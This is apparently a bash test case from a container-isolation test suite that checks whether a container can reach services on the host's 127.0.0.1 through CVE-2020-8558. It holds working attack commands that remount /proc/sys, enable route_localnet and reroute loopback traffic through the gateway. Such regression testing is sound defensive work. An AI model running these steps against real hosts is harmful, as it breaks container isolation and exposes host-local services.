# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# With a port published to the host's 127.0.0.1, route_localnet is on for what leads to machines.
WHAT='CVE-2020-8558: services on the host'"'"'s 127.0.0.1 are dialled through the gateway, by a machine that routes 127.0.0.0/8 there'
OPTIONS_nbox=(-p 127.0.0.1:8080:80)
RIVALS=nspawn

setup() {
        bring dial
        "$HOST_TOOLS/answerer" 9999 host "$PREY/heard" 127.0.0.1 &
        echo $! >"$PREY/pid"
        wait_until 5 sh -c 'ss -Hlnt "sport = 9999" | grep -q .'
}

attack() {
        gateway=$(busybox ip route | busybox awk '$1 == "default" { print $3 }')
        link=$(busybox ip -o link | busybox awk -F': ' '$2 !~ /^lo/ { sub(/@.*/, "", $2); print $2; exit }')
        busybox mount -o remount,rw,bind /proc/sys
        for name in all "$link"; do echo 1 >"/proc/sys/net/ipv4/conf/$name/route_localnet"; done
        if [ -n "$gateway" ]; then
                busybox ip address del 127.0.0.1/8 dev lo
                busybox ip route add 127.0.0.0/8 via "$gateway" dev "$link"
        fi
        dial 127.0.0.1 9999
}

verdict() {
        if printed '^host '; then works "it answered"; else blocked "$(tail -n 1 "$OUT")"; fi
}

undo() { kill "$(cat "$PREY/pid")" 2>/dev/null || true; }

# A link of one's own, as a simple network for containers has it.
control() {
        RUNNER=bare
        ip netns add escape
        ip link add vescape type veth peer name host0 netns escape
        ip address add 10.99.0.1/24 dev vescape
        ip link set vescape up
        echo 1 >/proc/sys/net/ipv4/conf/vescape/route_localnet
        ip -n escape link set lo up
        ip -n escape address add 10.99.0.2/24 dev host0
        ip -n escape link set host0 up
        ip -n escape route add default via 10.99.0.1
        cp -a "$TREE/escape/attack" "$TREE/attack.sh"
        ip netns exec escape chroot "$TREE" /bin/busybox sh -c 'PATH=/escape:$PATH; mount -t proc proc /proc; sh /attack.sh; umount /proc' >"$OUT" 2>&1 || true
        verdict
        ip netns delete escape
        ip link delete vescape 2>/dev/null || true
}
